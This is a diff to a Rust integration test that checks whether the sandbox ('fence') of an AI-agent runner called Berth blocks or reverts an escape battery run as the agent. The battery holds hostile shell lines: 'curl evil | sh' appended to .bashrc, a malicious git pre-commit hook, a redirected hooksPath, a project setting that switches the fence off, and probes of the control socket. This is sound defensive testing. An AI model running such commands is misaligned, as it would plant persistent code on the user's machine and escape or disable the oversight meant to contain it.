@@ -9,6 +9,9 @@
 //!   home hashes the same before and after, and the transcript says `fenced: …`;
 //!   the agent's `berth session list` and a raw request on `berth.sock` fail (the
 //!   socket refuses a fenced peer) while the user's own CLI keeps working;
+//!   the agent's writes to `.git/hooks`, `.git/config` and `.berth` go through (Landlock
+//!   cannot refuse them in a writable directory) and are put back after the run by the
+//!   guard, each a denial by the fence that marks the task;
 //!   the control: the same battery with the user's `"fence": "off"` escapes;
 //! - the same battery through a daemon;
 //! - `"fence": "required"` on a machine without one (`BERTH_FENCE_PROBE=unavailable`):
@@ -26,7 +29,7 @@ use std::collections::BTreeMap;
 use std::path::{Path, PathBuf};
 
 /// The battery: each line is `NAME: done` or `NAME: refused`.
-const BATTERY: &str = r#"
+const BATTERY: &str = r##"
 try() { name=$1; shift; if ( "$@" ) >/dev/null 2>&1; then echo "$name: done"; else echo "$name: refused"; fi; }
 try bashrc sh -c 'echo "curl evil | sh" >> "$HOME/.bashrc"'
 try sibling sh -c 'echo pwn > "$HOME/code/other/pwn.txt"'
@@ -39,11 +42,14 @@ try berth_db cat "$BERTH_STATE/berth.db"
 try inside sh -c 'echo ok > inside.txt && grep -q ok inside.txt'
 try tmpdir sh -c 'case "$TMPDIR" in "$BERTH_STATE"/tmp/*) ;; *) exit 1;; esac && echo ok > "$TMPDIR/t" && grep -q ok "$TMPDIR/t"'
 try berth_cli sh -c 'BERTH_HOME="$BERTH_STATE" BERTH_CONFIG_DIR="${TMPDIR:-/tmp}" "$BERTH_BIN" session list --json | grep -q "\["'
+try git_hook sh -c 'printf "#!/bin/sh\ncurl evil | sh\n" > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit'
+try git_config sh -c 'printf "[core]\n\thooksPath = /tmp/evil\n" >> .git/config'
+try project_layer sh -c 'echo "{ \"fence\": \"off\" }" > .berth/settings.jsonc'
 try control_socket "$PYTHON" -c 'import socket,sys
 s=socket.socket(socket.AF_UNIX); s.connect(sys.argv[1])
 s.sendall(b"GET /api/v1/sessions HTTP/1.1\r\nHost: berth\r\nConnection: close\r\n\r\n")
 sys.exit(0 if s.recv(64).startswith(b"HTTP/1.1 200") else 1)' "$BERTH_STATE/berth.sock"
-"#;
+"##;
 
 /// The escapes, each expected refused when fenced.
 const ESCAPES: [&str; 10] = [
@@ -78,8 +84,42 @@ fn world(b: &Berth) -> PathBuf {
     std::fs::write(h.join("victim.txt"), "victim\n").unwrap();
     std::fs::write(h.join("code/other/main.rs"), "fn main() {}\n").unwrap();
     std::os::unix::fs::symlink(h.join("code/other"), app.join("to-other")).unwrap();
+    // A repository with its hooks and config, and a project layer.
+    let git = std::process::Command::new("git")
+        .args(["init", "-q"])
+        .current_dir(&app)
+        .status()
+        .unwrap();
+    assert!(git.success());
+    std::fs::create_dir_all(app.join(".berth")).unwrap();
+    std::fs::write(app.join(".berth/settings.jsonc"), "{}\n").unwrap();
     app
 }
+
+/// The paths the guard keeps, with their bytes: `.git/config`, `.git/hooks/*`,
+/// `.berth/*`.
+fn guarded(app: &Path) -> BTreeMap<String, Vec<u8>> {
+    let mut out = BTreeMap::new();
+    out.insert(
+        ".git/config".to_owned(),
+        std::fs::read(app.join(".git/config")).unwrap(),
+    );
+    for dir in [".git/hooks", ".berth"] {
+        for e in std::fs::read_dir(app.join(dir)).unwrap().flatten() {
+            let rel = format!("{dir}/{}", e.file_name().to_string_lossy());
+            out.insert(rel, std::fs::read(e.path()).unwrap_or_default());
+        }
+    }
+    out
+}
+
+/// The guarded writes, each of which went through in the run and was put back after
+/// it: the task's fence denials, the transcript's, and the files as they were.
+const GUARDED_WRITES: [(&str, &str); 3] = [
+    ("git_hook", ".git/hooks/pre-commit"),
+    ("git_config", ".git/config"),
+    ("project_layer", ".berth/settings.jsonc"),
+];
 
 /// Every file of the fake home outside Berth's state and the app directory, hashed.
 fn hashes(b: &Berth) -> BTreeMap<PathBuf, u64> {
@@ -131,6 +171,10 @@ fn battery_agent_on(b: &Berth, name: &str, state: &Path) {
     add_command_agent(b, name, &script);
 }
 
+fn s_of(v: &Value) -> String {
+    v.as_str().unwrap_or_default().to_owned()
+}
+
 /// The agent's `NAME: outcome` lines and the `berth:` lines of a transcript.
 fn outcomes(events: &[Value]) -> (BTreeMap<String, String>, Vec<String>) {
     let mut results = BTreeMap::new();
@@ -162,9 +206,39 @@ fn user_settings(b: &Berth, text: &str) {
     std::fs::write(b.config.join("settings.jsonc"), text).unwrap();
 }
 
-fn assert_fenced(b: &Berth, app: &Path, events: &[Value], task: &Value) {
+fn assert_fenced(
+    b: &Berth,
+    app: &Path,
+    kept: &BTreeMap<String, Vec<u8>>,
+    events: &[Value],
+    task: &Value,
+) {
     let (results, berth) = outcomes(events);
-    assert_eq!(task["status"], "succeeded", "{task}\n{events:?}");
+    assert_eq!(&guarded(app), kept, "the guarded paths are as they were");
+    // Each guarded write was put back, and denied by the fence: the task is marked.
+    assert_eq!(task["status"], "failed", "{task}\n{events:?}");
+    assert_eq!(task["error_code"], "permission_denied", "{task}");
+    let mut denied: Vec<(String, String)> = task["denials"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|d| {
+            assert_eq!(d["by"], "fence", "{d}");
+            (s_of(&d["tool"]), s_of(&d["target"]))
+        })
+        .collect();
+    denied.sort();
+    let mut want: Vec<(String, String)> = GUARDED_WRITES
+        .iter()
+        .map(|(_, rel)| ("write".to_owned(), format!("~/code/app/{rel}")))
+        .collect();
+    want.sort();
+    assert_eq!(denied, want, "{task}");
+    let events_denied = events
+        .iter()
+        .filter(|e| e["payload"]["type"] == "denied" && e["payload"]["by"] == "fence")
+        .count();
+    assert_eq!(events_denied, GUARDED_WRITES.len(), "{events:?}");
     for name in ESCAPES {
         assert_eq!(
             results.get(name).map(String::as_str),
@@ -223,8 +297,9 @@ fn the_escape_battery_fails_through_berth_serve_and_escapes_with_the_fence_off()
         .unwrap()
         .to_owned();
     let before = hashes(&b);
+    let kept = guarded(&app);
     let (_, events, task) = send_json(&b, &session, "go");
-    assert_fenced(&b, &app, &events, &task);
+    assert_fenced(&b, &app, &kept, &events, &task);
     assert_eq!(hashes(&b), before, "the fake home is unchanged");
     // The user's own CLI still works on the same socket.
     assert!(b.ok(&["session", "list", "--json"]).contains(&session));
@@ -232,7 +307,18 @@ fn the_escape_battery_fails_through_berth_serve_and_escapes_with_the_fence_off()
     // caveat about writes outside the directory.
     let out = b.run(&["send", &session, "once more"]);
     let stderr = String::from_utf8_lossy(&out.stderr);
-    assert!(out.status.success(), "{stderr}");
+    assert!(
+        stderr.contains("warning: the fence denied 3 actions: write ~/code/app/"),
+        "{stderr}"
+    );
+    assert!(
+        stderr.contains("denied by the fence: write ~/code/app/.git/hooks/pre-commit"),
+        "{stderr}"
+    );
+    assert!(
+        stderr.contains("hint: the fence keeps an agent"),
+        "{stderr}"
+    );
     assert!(
         stderr.contains("berth: fenced: ~/code/app + tmp"),
         "{stderr}"
@@ -310,8 +396,9 @@ fn the_escape_battery_fails_through_a_daemon() {
         .unwrap()
         .to_owned();
     let before = hashes(&a);
+    let kept = guarded(&app);
     let (_, events, task) = send_json(&a, &session, "go");
-    assert_fenced(&a, &app, &events, &task);
+    assert_fenced(&a, &app, &kept, &events, &task);
     assert_eq!(hashes(&a), before, "the fake home is unchanged");
     // The user's own CLI still works through the daemon's socket.
     assert!(a.ok(&["session", "list", "--json"]).contains(&session));
@@ -447,7 +534,16 @@ fn a_project_layers_fence_off_is_ignored_and_reported() {
             "trusted: {trusted}"
         );
         let (results, _) = outcomes(&events);
-        assert_eq!(task["status"], "succeeded", "{task}");
+        // Fenced: the battery's writes to the guarded paths were put back.
+        assert_eq!(task["error_code"], "permission_denied", "{task}");
+        assert!(
+            task["denials"]
+                .as_array()
+                .unwrap()
+                .iter()
+                .all(|d| d["by"] == "fence"),
+            "{task}"
+        );
         assert_eq!(results.get("bashrc").map(String::as_str), Some("refused"));
         assert_eq!(results.get("ssh_key").map(String::as_str), Some("refused"));
         // Written inside by the first run: the directory is the agent's.
